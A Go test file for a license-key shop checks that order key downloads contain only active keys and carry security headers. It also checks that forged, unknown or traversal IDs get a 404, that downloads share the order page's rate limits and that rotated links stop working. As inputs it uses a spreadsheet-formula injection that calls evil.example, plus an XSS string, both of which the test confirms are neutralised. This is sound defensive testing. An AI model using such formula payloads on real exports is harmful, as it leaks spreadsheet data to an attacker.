package app_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/netip"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"fulfiller/internal/catalog"
	"fulfiller/internal/config"
	"fulfiller/internal/fulfillertest"
	"fulfiller/internal/logging"
	"fulfiller/internal/stripeapi/stripefake"
)

const (
	// priceFormula is a lifetime price whose name a spreadsheet would run.
	priceFormula   = "price_formula_life"
	formulaProduct = `=HYPERLINK("http://evil.example/?"&A1,"Pro")`
)

// downloadLinks are the page's links to an order's key files.
var downloadLinks = regexp.MustCompile(`href="(/orders/[^"]+)/keys\.(txt|csv)"`)

// requireKeyFile checks a download's answer: the file, as an attachment
// named after the order, never cached, under the pages' security headers.
func requireKeyFile(t *testing.T, a apiAnswer, ref, ext, contentType string) {
	t.Helper()
	require.Equal(t, http.StatusOK, a.status, string(a.body))
	require.Equal(t, contentType, a.header.Get("Content-Type"))
	require.Equal(t, `attachment; filename="`+ref+`-keys.`+ext+`"`, a.header.Get("Content-Disposition"))
	require.Equal(t, "no-store", a.header.Get("Cache-Control"))
	require.Contains(t, a.header.Get("Content-Security-Policy"), "default-src 'self'")
	require.Equal(t, "no-referrer", a.header.Get("Referrer-Policy"))
	require.Equal(t, "nosniff", a.header.Get("X-Content-Type-Options"))
}

func TestKeyDownloadsHoldTheOrdersWorkingKeys(t *testing.T) {
	t.Parallel()
	b := setup(t, withTrustedLoopback())
	b.Catalog.Put(priceFormula, catalog.Product{ProjectID: project, KeyDays: 0, Name: formulaProduct})
	s, o := b.buy(t, stripefake.Item{PriceID: priceMonth, Quantity: 2}, stripefake.Item{PriceID: priceFormula, Quantity: 1})
	require.Len(t, o.Keys, 3)
	byPrice := map[string][]string{}
	for _, k := range o.Keys {
		byPrice[k.PriceID] = append(byPrice[k.PriceID], k.UserKey)
	}
	revoked, kept, formula := byPrice[priceMonth][0], byPrice[priceMonth][1], byPrice[priceFormula][0]
	b.keyAction(t, "revoke", keyBody(revoked))
	_, o = b.GetOrder(t, s.ID)
	ref := logging.OrderRef(s.ID)

	// The page links to both files by a signed link, never by the session
	// ID, and the links work without script.
	page := string(b.call(t, http.MethodGet, "/orders/"+s.ID, "", "", "").body)
	links := downloadLinks.FindAllStringSubmatch(page, -1)
	require.Len(t, links, 2, "a .txt and a .csv link")
	require.Equal(t, links[0][1], links[1][1])
	require.True(t, strings.HasPrefix(links[0][1], "/orders/ol_"), links[0][1])
	require.NotContains(t, links[0][1], s.ID)
	require.Contains(t, page, `data-copy-all hidden>Copy all keys</button>`, "copying needs script: shown by it")

	for _, base := range []string{links[0][1], "/orders/" + s.ID} {
		txt := b.call(t, http.MethodGet, base+"/keys.txt", "", "", "")
		requireKeyFile(t, txt, ref, "txt", "text/plain; charset=utf-8")
		require.Equal(t, kept+"\n"+formula+"\n", string(txt.body), "one working key a line, the revoked one left out")

		file := b.call(t, http.MethodGet, base+"/keys.csv", "", "", "")
		requireKeyFile(t, file, ref, "csv", "text/csv; charset=utf-8; header=present")
		require.NotContains(t, string(file.body), revoked)
		rows, err := csv.NewReader(strings.NewReader(string(file.body))).ReadAll()
		require.NoError(t, err)
		require.Equal(t, [][]string{
			{"product", "key", "status", "expires"},
			{o.Keys[1].ProductName, kept, "active", "waits for first use"},
			{"'" + formulaProduct, formula, "active", "never"},
		}, rows, "the formula is defused: a spreadsheet shows it as text")
		require.Contains(t, string(file.body), `"'=HYPERLINK(""http://evil.example/?""&A1,""Pro"")"`, "quoted and escaped")
	}

	// Whatever the order page does not open, the downloads do not either:
	// each is the site's not-found page, with no key in it.
	forged := links[0][1][:len(links[0][1])-4] + "AAAA"
	for i, id := range []string{
		fulfillertest.NewID("cs_test_"),        // a session ID nobody paid (its page waits)
		strings.TrimPrefix(forged, "/orders/"), // a tampered link
		"cs_test_short", "../v1/orders", `"><script>alert(1)</script>`, "ol_" + strings.Repeat("A", 75),
	} {
		for _, ext := range []string{"txt", "csv"} {
			// Each from a client of its own: every lookup of an unknown order
			// costs its client a token.
			client := fmt.Sprintf("203.0.113.%d", 2*i+len(ext))
			a := b.call(t, http.MethodGet, "/orders/"+url.PathEscape(id)+"/keys."+ext, "", client, "")
			require.Equal(t, http.StatusNotFound, a.status, "%s: %s", id, a.body)
			require.Equal(t, "text/html; charset=utf-8", a.header.Get("Content-Type"))
			require.Empty(t, a.header.Get("Content-Disposition"))
			require.Contains(t, string(a.body), "<h1>Page not found</h1>")
			for _, k := range []string{revoked, kept, formula} {
				require.NotContains(t, string(a.body), k)
			}
		}
	}

	// Support rotates the order's access: neither the session ID nor the
	// old link downloads anything any more.
	status, body := b.admin(t, http.MethodPost, "/v1/admin/orders/"+s.ID+"/rotate-link", `{"reason":"leaked"}`, adminToken)
	require.Equal(t, http.StatusOK, status, "%v", body)
	for _, base := range []string{links[0][1], "/orders/" + s.ID} {
		require.Equal(t, http.StatusNotFound, b.call(t, http.MethodGet, base+"/keys.txt", "", "", "").status, base)
	}
}

// TestKeyDownloadsShareTheOrderPagesRateLimits: a download looks its order
// up as the page does, charged to the same client's lookups: a client past
// them is answered 429 by both, whichever spent them.
func TestKeyDownloadsShareTheOrderPagesRateLimits(t *testing.T) {
	t.Parallel()
	b := setup(t, withTrustedLoopback())
	unknown := fulfillertest.NewID("cs_test_")
	// spend asks for path as client until it is refused.
	spend := func(path, client string) apiAnswer {
		t.Helper()
		for range 20 {
			if a := b.call(t, http.MethodGet, path, "", client, ""); a.status == http.StatusTooManyRequests {
				return a
			}
		}
		t.Fatalf("%s was never refused", path)
		return apiAnswer{}
	}
	requireRefusedDownload := func(a apiAnswer) {
		t.Helper()
		require.Equal(t, http.StatusTooManyRequests, a.status, string(a.body))
		require.Equal(t, "1", a.header.Get("Retry-After"))
		require.Equal(t, "text/html; charset=utf-8", a.header.Get("Content-Type"))
		require.Contains(t, string(a.body), "<h1>Too many requests</h1>")
		require.Empty(t, a.header.Get("Content-Disposition"))
	}

	// One client's page spends them: its download is refused.
	const first, second = "203.0.113.7", "198.51.100.9"
	require.Contains(t, string(spend("/orders/"+unknown, first).body), `data-state="busy"`)
	requireRefusedDownload(b.call(t, http.MethodGet, "/orders/"+unknown+"/keys.txt", "", first, ""))

	// Another client's downloads spend them: its page is refused.
	requireRefusedDownload(spend("/orders/"+unknown+"/keys.csv", second))
	page := b.call(t, http.MethodGet, "/orders/"+unknown, "", second, "")
	require.Equal(t, http.StatusTooManyRequests, page.status)
	require.Contains(t, string(page.body), `data-state="busy"`)
}

// withTrustedLoopback trusts the test's own address as a proxy, so that
// each request names its client (X-Forwarded-For).
func withTrustedLoopback() func(*options) {
	return withConfig(func(c *config.Config) { c.TrustedProxies = []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")} })
}
